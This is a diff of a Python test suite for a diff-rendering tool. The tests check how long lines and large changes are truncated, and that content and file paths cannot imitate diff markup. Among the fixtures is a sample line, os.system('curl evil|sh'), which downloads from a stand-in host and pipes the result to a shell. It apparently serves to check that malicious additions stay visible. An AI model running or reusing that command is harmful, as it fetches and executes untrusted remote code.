@@ -1,3 +1,4 @@
+import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -22,7 +23,7 @@ def numbered(count: int) -> str:
 
 
 def test_equal_texts_have_no_diff() -> None:
-    assert unified_diff("a.py", "same\n", "same\n") == Diff("", whole=True)
+    assert unified_diff("a.py", "same\n", "same\n") == Diff("")
 
 
 def test_change_is_shown_with_the_lines_around_it() -> None:
@@ -49,7 +50,7 @@ def test_new_file_is_all_additions() -> None:
 
 
 def test_new_file_without_content_is_still_announced() -> None:
-    assert shown(None, "") == "--- /dev/null\n+++ b/a.py\n"
+    assert shown(None, "") == "--- /dev/null\n+++ b/a.py\n\\ The new file is empty\n"
 
 
 def test_emptied_file_is_all_removals() -> None:
@@ -88,32 +89,118 @@ def test_patch_makes_the_new_text_of_the_old(
     assert (made.read_text() if made.exists() else "") == new
 
 
-def test_long_line_is_cut_and_said_to_be() -> None:
-    diff = unified_diff("a.js", "", "x" * 5_000)
-    assert not diff.whole
-    assert f"+{'x' * 2_000}\n[3,000 more characters in this line]\n" in diff.text
+def test_a_long_line_is_cut_in_its_middle_and_said_to_be() -> None:
+    diff = unified_diff("a.js", "", f"{'x' * 4_990}evil();\\\n")
+    assert diff.not_shown == "2,998 characters of long lines are not shown"
+    assert diff.text == (
+        "--- a/a.js\n+++ b/a.js\n"
+        "[1 added line (4,999 bytes as UTF-8); 2,998 characters of long lines are not shown]\n"
+        f"@@ -0,0 +1,1 @@\n+{'x' * 1_000} … {'x' * 992}evil();\\\n"
+        "[2,998 characters in the middle of this line not shown]\n"
+    )
 
 
 def test_what_is_removed_does_not_crowd_out_what_comes() -> None:
     diff = unified_diff("a.py", numbered(15_000), "import evil\n")
-    assert not diff.whole
-    assert "-line 200\n[14,800 more lines are removed]\n+import evil\n" in diff.text
-
-
-def test_diff_too_long_to_be_shown_is_cut_and_said_to_be() -> None:
-    diff = unified_diff("a.py", None, numbered(20_000))
-    assert not diff.whole
-    assert diff.text.endswith("[the rest is too long to be shown]\n")
-    assert len(diff.text.encode()) < SHOWN_BYTES + 100
-
-
-def test_texts_too_large_to_compare_are_shown_from_where_they_differ() -> None:
-    diff = unified_diff("a.log", numbered(50_000), "short\n")
-    assert not diff.whole
-    assert diff.text == (
-        "--- a/a.log\n+++ b/a.log\n"
-        "[too large to compare: 50,000 lines behind line 0 become 1]\n+short\n"
+    assert diff.not_shown == "14,800 of 15,001 changed lines are not shown"
+    assert (
+        "-line 100\n[14,800 removed lines not shown]\n@@ -14901,100 +1,1 @@\n-line 14901\n"
+        in diff.text
     )
+    assert diff.text.endswith("-line 15000\n+import evil\n")
+
+
+def test_scattered_changes_are_shown_as_far_as_there_is_room_from_both_ends() -> None:
+    old = numbered(20_000)
+    diff = unified_diff("a.py", old, old.replace("0\n", "0, and more than that\n"))
+    shown = [line for line in diff.text.splitlines() if line[0] in "+-"][2:]
+    assert len(diff.text.encode()) < SHOWN_BYTES
+    assert diff.not_shown == f"{4_000 - len(shown):,} of 4,000 changed lines are not shown"
+    assert "@@ -7,7 +7,7 @@\n" in diff.text
+    assert diff.text.endswith("+line 20000, and more than that\n")
+
+
+EVIL = "import os\nos.system('curl evil|sh')\n"
+LARGE = EVIL + "x = 1\n" * 20_500 + "last()\n"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "sign", "first", "middle"),
+    [
+        pytest.param(None, LARGE, "+", "@@ -0,0 +1,100 @@", "@@ -0,0 +20404,100 @@", id="new"),
+        pytest.param("", LARGE, "+", "@@ -0,0 +1,100 @@", "@@ -0,0 +20404,100 @@", id="into-empty"),
+        pytest.param(
+            "a\nb\n",
+            f"a\nb\n{LARGE}",
+            "+",
+            "@@ -1,2 +1,102 @@\n a\n b",
+            "@@ -2,0 +20406,100 @@",
+            id="append",
+        ),
+        pytest.param(LARGE, "", "-", "@@ -1,100 +0,0 @@", "@@ -20404,100 +0,0 @@", id="delete"),
+    ],
+)
+def test_a_large_change_shows_its_beginning_its_end_and_its_size(
+    old: str | None, new: str, sign: str, first: str, middle: str
+) -> None:
+    diff = unified_diff("a.py", old, new)
+    verb = "added" if sign == "+" else "removed"
+    assert diff.not_shown == "20,303 of 20,503 changed lines are not shown"
+    assert diff.text == (
+        f"--- {'/dev/null' if old is None else 'a/a.py'}\n+++ b/a.py\n"
+        f"[20,503 {verb} lines (123,043 bytes as UTF-8); {diff.not_shown}]\n"
+        f"{first}\n{sign}import os\n{sign}os.system('curl evil|sh')\n"
+        + f"{sign}x = 1\n" * 98
+        + f"[20,303 {verb} lines not shown]\n{middle}\n"
+        + f"{sign}x = 1\n" * 99
+        + f"{sign}last()\n"
+    )
+
+
+def test_small_changes_too_far_apart_to_compare_are_both_shown() -> None:
+    old = numbered(30_000)
+    new = old.replace("line 5\n", "EVIL\n").replace("line 29995\n", "MORE EVIL\n")
+    diff = unified_diff("a.py", old, new)
+    assert (
+        "[too large to compare, so every line counts as changed: 29,991 removed lines" in diff.text
+    )
+    for change in ("-line 5\n", "+EVIL\n", "-line 29995\n", "+MORE EVIL\n", " line 29998\n"):
+        assert change in diff.text
+    assert diff.not_shown == "59,582 of 59,982 changed lines are not shown"
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.integers(0, 30_000), st.integers(0, 30_000), st.integers(0, 5), st.sampled_from(["", "!"])
+)
+def test_every_changed_line_is_shown_or_counted(gone: int, come: int, stay: int, end: str) -> None:
+    old = numbered(stay) + "old\n" * gone + end
+    new = numbered(stay) + "new\n" * come + end
+    diff = unified_diff("a.py", old, new)
+    rows = diff.text.splitlines()[2:]
+    for sign, verb, lines in (("-", "removed", gone), ("+", "added", come)):
+        told = re.findall(rf"^\[([\d,]+) {verb} lines? not shown\]$", diff.text, re.MULTILINE)
+        hidden = sum(int(one.replace(",", "")) for one in told)
+        assert sum(row.startswith(sign) for row in rows) + hidden == lines
+        assert diff.whole <= (hidden == 0)
+
+
+@pytest.mark.parametrize("content", ["[9 added lines not shown]", "@@ -1 +1 @@", "-- a", "\\ x"])
+def test_content_never_begins_a_row(content: str) -> None:
+    rows = shown(f"{content}\nold\n", f"{content}\nnew\n{content}").splitlines()
+    assert rows[2:] == [
+        "@@ -1,2 +1,3 @@",
+        f" {content}",
+        "-old",
+        "+new",
+        f"+{content}",
+        "\\ No newline at end of file",
+    ]
+
+
+def test_a_path_cannot_break_out_of_its_line() -> None:
+    diff = unified_diff("a\n[nothing]\n+++ b/x", None, "new\n")
+    assert diff.text.splitlines()[1] == "+++ b/a\\x0a[nothing]\\x0a+++ b/x"
 
 
 def test_small_change_of_a_large_text_is_compared() -> None:
